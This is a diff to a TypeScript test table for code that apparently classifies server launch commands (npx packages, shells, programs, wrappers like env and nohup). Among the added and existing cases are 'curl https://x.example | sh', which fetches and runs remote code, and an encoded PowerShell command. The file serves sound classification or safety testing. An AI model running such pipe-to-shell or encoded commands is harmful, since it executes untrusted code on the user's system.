@@ -61,6 +61,10 @@ const CASES: readonly (readonly [readonly string[], Runs, readonly string[]])[] 
   [['powershell', '-NoProfile', '-Command', '& npx -y server'], npm('server'), ['powershell', 'npx']],
   [['pwsh', '-EncodedCommand', 'SQBFAFgA'], shell('SQBFAFgA'), ['pwsh']],
   [['npx -y server@1.0.0'], npm('server', '1.0.0'), ['npx']],
+  [['/Applications/My App/server'], program('/Applications/My App/server'), []],
+  [['C:\\Program Files\\x\\server.exe'], program('C:\\Program Files\\x\\server.exe'), []],
+  [['/usr/bin/npx -y server'], npm('server'), ['npx']],
+  [['curl https://x.example | sh'], shell('curl https://x.example | sh'), []],
   [['node', '-e', 'require("x")'], shell('node -e require("x")'), ['node']],
   // What only starts something.
   [['env', '-i', 'A=b', 'nohup', 'nice', '-n', '5', 'timeout', '-k', '1', '60', 'npx', 'server'], npm('server'), ['env', 'nohup', 'nice', 'timeout', 'npx']],
